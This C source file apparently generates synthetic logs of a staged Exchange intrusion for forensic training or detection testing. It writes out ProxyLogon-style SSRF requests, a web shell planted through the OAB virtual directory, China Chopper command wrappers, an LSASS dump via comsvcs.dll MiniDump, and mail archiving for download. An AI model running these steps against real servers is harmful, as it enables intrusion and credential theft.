#include "breach.h"

#include "events.h"
#include "pages.h"
#include "web.h"

#define SECOND INT64_C(1000) /* in milliseconds, as the steps below */
#define MINUTE (60 * SECOND)
#define HOUR   (60 * MINUTE)

#define INTRUDER      "203.0.113.77"
#define ACCOMPLICE    "203.0.113.141" /* takes over later, from another rented machine */
#define SCRIPT_AGENT  "python-requests/2.25.1"
#define BROWSER_AGENT "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.0) Gecko/20100101 Firefox/45.0"
#define W3WP          "c:\\windows\\system32\\inetsrv\\w3wp.exe"
#define W3WP_COMMAND  W3WP " -ap \"MSExchangeOWAAppPool\" -v \"v4.0\" -w \"\" -m 0"
#define SYSTEM32      "C:\\Windows\\System32\\"
#define SHELL_TARGET \
    "Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\" SHELL
#define TEMPORARY                                                             \
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET " \
    "Files\\owa\\8e05b027\\"                                                  \
    "e164d61b\\"
#define LOOT "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\ab.7z"

enum { OWA_POOL_PID = 10844, SYSTEM_PID = 4, LOOT_SIZE = 48211968, STREAM = 0x6272 };

/* Early on the last day; a try on the evening before. */
static usec beginning(const struct scene *s)
{
    return s->end - 24 * HOUR * 1000 + (5 * HOUR + 47 * MINUTE + 2 * SECOND) * 1000;
}

/* ---- the way in: requests that the front end passes on as itself */

static void pass_on(struct scene *s, usec t, const char *agent, unsigned status,
                    const char *back_stem, const char *back_query)
{
    const char *anchor = arena_printf(s->arena, "ServerInfo~a]@" SERVER_FQDN ":444%s?%s#",
                                      back_stem, back_query ? back_query : "")
                             .p;
    web_request(s, &(struct request){.time = t,
                                     .proxy = LOG_PROXY_ECP,
                                     .method = "POST",
                                     .stem = "/ecp/y.js",
                                     .address = INTRUDER,
                                     .agent = agent,
                                     .status = status,
                                     .anchor = anchor,
                                     .hint = "X-BEResource-Cookie",
                                     .back_stem = back_stem,
                                     .back_query = back_query,
                                     .back_user = "CORP\\" SERVER "$",
                                     .bytes_in = 1318,
                                     .bytes_out = 3742,
                                     .took = chance_from(&s->chance, 90, 900)});
}

static void look_around(struct scene *s, usec t)
{
    web_request(s, &(struct request){.time = t,
                                     .proxy = LOG_PROXY_OWA,
                                     .method = "GET",
                                     .stem = "/owa/auth/logon.aspx",
                                     .address = INTRUDER,
                                     .agent = SCRIPT_AGENT,
                                     .status = 200,
                                     .bytes_in = 210,
                                     .bytes_out = 57813,
                                     .took = 31});
}

static void ask_for_mailbox(struct scene *s, usec t)
{
    pass_on(s, t, "ExchangeServicesClient/0.0.0.0", 200, "/autodiscover/autodiscover.xml", NULL);
}

static void ask_for_sid(struct scene *s, usec t)
{
    pass_on(s, t, SCRIPT_AGENT, 200, "/mapi/emsmdb/", NULL);
}

static void become_administrator(struct scene *s, usec t)
{
    static const char *const texts[] = {
        "corp.example.com/Users/Administrator",
        "https://mail01.corp.example.com:444/ecp/about.aspx?a=]:444/ecp/y.js(https://" PUBLIC_HOST
        "/ecp/y.js)",
        "System.NullReferenceException: Object reference not set to an instance of an object."};
    pass_on(s, t, SCRIPT_AGENT, 241, "/ecp/proxyLogon.ecp", NULL);
    event_classic(s, LOG_APPLICATION, t + 400000, "MSExchange Control Panel", 4, 2, texts,
                  ARRAY_LEN(texts));
}

/* ---- the page: a script in the address book's URL, then a reset that writes it to a file */

#define DDI       "/ecp/DDI/DDIService.svc/"
#define CANARY    "msExchEcpCanary=hQ7x2vT1pEmB0kXw9.&schema="
#define ADMIN_SID DOMAIN_SID "-500"
#define ADMIN     "corp.example.com/Users/Administrator"

static void read_settings(struct scene *s, usec t)
{
    pass_on(s, t, SCRIPT_AGENT, 200, DDI "GetObject", CANARY "OABVirtualDirectory");
}

static void control_panel_works(struct scene *s, usec t)
{
    static const char *const texts[] = {ADMIN_SID, "176", "SetObject"};
    event_classic(s, LOG_APPLICATION, t, "MSExchange Control Panel", 47, 4, texts,
                  ARRAY_LEN(texts));
    event_classic(s, LOG_APPLICATION, t + 600000, "MSExchange Control Panel", 48, 4, texts,
                  ARRAY_LEN(texts));
}

static void set_url(struct scene *s, usec t, const char *in_panel, const char *parameters)
{
    pass_on(s, t, SCRIPT_AGENT, 200, DDI "SetObject", CANARY "OABVirtualDirectory");
    web_control_panel(s, t + 120000, ADMIN_SID, in_panel,
                      "https://mail01.corp.example.com:444" DDI "SetObject?" CANARY
                      "OABVirtualDirectory");
    control_panel_works(s, t + 150000);
    event_cmdlet(s, t + 180000, "Set-OabVirtualDirectory", parameters, ADMIN, ADMIN_SID);
}

static void plant_script(struct scene *s, usec t)
{
    const char *line = shell_line(s->arena);
    set_url(s, t,
            arena_printf(s->arena,
                         "Set-OabVirtualDirectory.ExternalUrl='http://f/#%s'.Identity="
                         "'b1f0d0a4-5c3e-4a57-9f27-2f8f6a2f1c55'",
                         line)
                .p,
            arena_printf(s->arena,
                         "-ExternalUrl \"http://f/#%s\" -Identity \"OAB (Default Web Site)\"", line)
                .p);
}

static void file_appears(struct scene *s, usec t)
{
    event_share(s, t, "\\\\*\\IPC$", NULL, 0x1);
    event_share(s, t + 1000, "\\\\*\\C$", NULL, 0x1);
    event_share(s, t + 2000, "\\\\*\\C$", SHELL_TARGET, 0x12019f);
    event_share(s, t + 2000, "\\\\*\\C$", SHELL_TARGET, 0x2);
    event_file(s, t + 2000, SYSTEM_PID, "System", OWA_AUTH SHELL);
}

static void directory_is_made_anew(struct scene *s, usec t)
{
    static const char *const pool[] = {"MSExchangeOABAppPool"};
    static const char *const gone[] = {"OAB", "4.0.30319", "HttpProxy"};
    event_classic(s, LOG_APPLICATION, t, "Microsoft-Windows-IIS-W3SVC-WP", 2303, 3, pool, 1);
    event_classic(s, LOG_APPLICATION, t + 20000, "MSExchange Front End HTTP Proxy", 1002, 4, gone,
                  ARRAY_LEN(gone));
    event_cmdlet(s, t + 60000, "Remove-OabVirtualDirectory",
                 "-Force \"True\" -Identity \"" SERVER "\\OAB (Default Web Site)\"", ADMIN,
                 ADMIN_SID);
    event_cmdlet(s, t + 1900000, "New-OabVirtualDirectory",
                 "-WebSiteName \"Default Web Site\" -Server \"" SERVER "\" -Role \"ClientAccess\" "
                 "-InternalUrl \"https://mail01.corp.example.com/OAB\" -Path \"" EXCHANGE
                 "FrontEnd\\HttpProxy\\OAB\"",
                 ADMIN, ADMIN_SID);
}

static void reset_into_file(struct scene *s, usec t)
{
    pass_on(s, t, SCRIPT_AGENT, 200, DDI "SetObject", CANARY "ResetOABVirtualDirectory");
    web_control_panel(s, t + 110000, ADMIN_SID,
                      "Remove-OabVirtualDirectory.Force=$true.Identity="
                      "'b1f0d0a4-5c3e-4a57-9f27-2f8f6a2f1c55'",
                      "https://mail01.corp.example.com:444" DDI "SetObject?" CANARY
                      "ResetOABVirtualDirectory");
    file_appears(s, t + 300000);
    directory_is_made_anew(s, t + 700000);
}

static void wipe_url(struct scene *s, usec t)
{
    set_url(s, t,
            "Set-OabVirtualDirectory.ExternalUrl=$null.Identity="
            "'b1f0d0a4-5c3e-4a57-9f27-2f8f6a2f1c55'",
            "-ExternalUrl $null -Identity \"OAB (Default Web Site)\"");
}

/* ---- the page is used */

static void post_to_page(struct scene *s, usec t, const char *address, const char *agent,
                         uint32_t took)
{
    web_request(s, &(struct request){.time = t,
                                     .proxy = LOG_PROXY_OWA,
                                     .method = "POST",
                                     .stem = "/owa/auth/" SHELL,
                                     .address = address,
                                     .agent = agent,
                                     .status = 200,
                                     .bytes_in = chance_from(&s->chance, 400, 900),
                                     .bytes_out = chance_from(&s->chance, 2100, 3900),
                                     .took = took});
}

/* The worker starts a shell, and the shell a program, unless it does the command itself. */
static void run(struct scene *s, usec t, const char *command, const char *image,
                const char *program)
{
    uint32_t pid = chance_from(&s->chance, 2600, 7900) * 4;
    const struct process shell = {.pid = pid,
                                  .image = SYSTEM32 "cmd.exe",
                                  .command = command,
                                  .parent_pid = OWA_POOL_PID,
                                  .parent_image = W3WP,
                                  .parent_command = W3WP_COMMAND};
    event_process(s, t, &shell);
    if (image) {
        event_process(s, t + 29000,
                      &(struct process){.pid = pid + 48,
                                        .image = image,
                                        .command = program,
                                        .parent_pid = pid,
                                        .parent_image = shell.image,
                                        .parent_command = command});
    }
}

static void first_call(struct scene *s, usec t)
{
    post_to_page(s, t, INTRUDER, SCRIPT_AGENT, 4312);
    event_process(s, t + 1800000,
                  &(struct process){.pid = 23376,
                                    .image = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
                                             "cvtres.exe",
                                    .command = "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86",
                                    .parent_pid = OWA_POOL_PID,
                                    .parent_image = W3WP,
                                    .parent_command = W3WP_COMMAND});
    event_file(s, t + 2000000, OWA_POOL_PID, W3WP, TEMPORARY "App_Web_0t4gm2vq.dll");
    event_file(s, t + 2100000, OWA_POOL_PID, W3WP, TEMPORARY SHELL ".f5dba9b9.compiled");
    run(s, t + 4200000, "cmd /c whoami", SYSTEM32 "whoami.exe", "whoami");
}

#define CHOPPER(command) \
    "\"cmd\" /c cd /d \"C:/inetpub/wwwroot/aspnet_client\"&" command "&echo [S]&cd&echo [E]"

static void ask_for_administrators(struct scene *s, usec t)
{
    post_to_page(s, t, INTRUDER, BROWSER_AGENT, 380);
    run(s, t + 90000, CHOPPER("net group \"Domain Admins\" /domain"), SYSTEM32 "net.exe",
        "net  group \"Domain Admins\" /domain");
}

static void ask_for_network(struct scene *s, usec t)
{
    post_to_page(s, t, INTRUDER, BROWSER_AGENT, 260);
    run(s, t + 80000, CHOPPER("ipconfig /all"), SYSTEM32 "ipconfig.exe", "ipconfig  /all");
}

static void dump_passwords(struct scene *s, usec t)
{
    static const char command[] = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 668 "
                                  "C:\\Windows\\Temp\\d.tmp full";
    post_to_page(s, t, INTRUDER, BROWSER_AGENT, 2950);
    run(s, t + 70000,
        CHOPPER("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 668 "
                "C:\\Windows\\Temp\\d.tmp full"),
        SYSTEM32 "rundll32.exe", command);
    event_lsass_looked_at(s, t + 300000, SYSTEM32 "rundll32.exe", 14412, 0x1fffff);
    event_file(s, t + 400000, 14412, SYSTEM32 "rundll32.exe", "C:\\Windows\\Temp\\d.tmp");
}

static void pack_mail(struct scene *s, usec t)
{
    post_to_page(s, t, ACCOMPLICE, BROWSER_AGENT, 41280);
    run(s, t + 90000, CHOPPER("C:\\ProgramData\\7z.exe a -t7z -r " LOOT " C:\\ProgramData\\pst"),
        "C:\\ProgramData\\7z.exe",
        "C:\\ProgramData\\7z.exe  a -t7z -r " LOOT " C:\\ProgramData\\pst");
    event_file(s, t + 500000, 15528, "C:\\ProgramData\\7z.exe", LOOT);
}

static void fetch_mail(struct scene *s, usec t)
{
    web_request(s, &(struct request){.time = t,
                                     .proxy = TEXT_LOGS,
                                     .method = "GET",
                                     .stem = "/aspnet_client/system_web/ab.7z",
                                     .address = ACCOMPLICE,
                                     .agent = BROWSER_AGENT,
                                     .status = 200,
                                     .bytes_in = 312,
                                     .bytes_out = LOOT_SIZE,
                                     .took = 96110});
}

static void remove_archive(struct scene *s, usec t)
{
    post_to_page(s, t, ACCOMPLICE, BROWSER_AGENT, 240);
    run(s, t + 60000, CHOPPER("del " LOOT), NULL, NULL);
}

/* Milliseconds after the beginning. */
static const struct {
    int64_t after;
    void (*happens)(struct scene *s, usec t);
} steps[] = {
    {-8 * HOUR - 6 * MINUTE,   look_around           },
    {-8 * HOUR - 5 * MINUTE,   ask_for_mailbox       },
    {0,                        ask_for_mailbox       },
    {1400,                     ask_for_sid           },
    {3100,                     become_administrator  },
    {4800,                     read_settings         },
    {6400,                     plant_script          },
    {8200,                     reset_into_file       },
    {11100,                    wipe_url              },
    {14500,                    first_call            },
    {2 * MINUTE + 12 * SECOND, ask_for_network       },
    {5 * MINUTE + 40 * SECOND, ask_for_administrators},
    {24 * MINUTE,              dump_passwords        },
    {61 * MINUTE,              pack_mail             },
    {67 * MINUTE,              fetch_mail            },
    {71 * MINUTE,              remove_archive        },
};

enum { STEP_RESET = 7, STEP_FIRST_CALL = 9 };

static usec time_of_step(const struct scene *s, size_t step)
{
    return beginning(s) + steps[step].after * 1000;
}

/* With its own chance, so that the noise stays what it is on the healthy server. */
void breach_hour(struct scene *s, usec hour)
{
    struct scene own = *s;
    for (size_t i = 0; i < ARRAY_LEN(steps); i++) {
        usec t = time_of_step(s, i);
        if (t >= hour && t < hour + HOUR * 1000) {
            own.chance = chance_of(s->seed, STREAM + i);
            steps[i].happens(&own, t);
        }
    }
}

bool breach_files(struct scene *s)
{
    struct scene own = *s;
    own.chance = chance_of(s->seed, STREAM);
    return pages_shell(&own, time_of_step(s, STEP_RESET) + 302000,
                       time_of_step(s, STEP_FIRST_CALL) + 2100000);
}
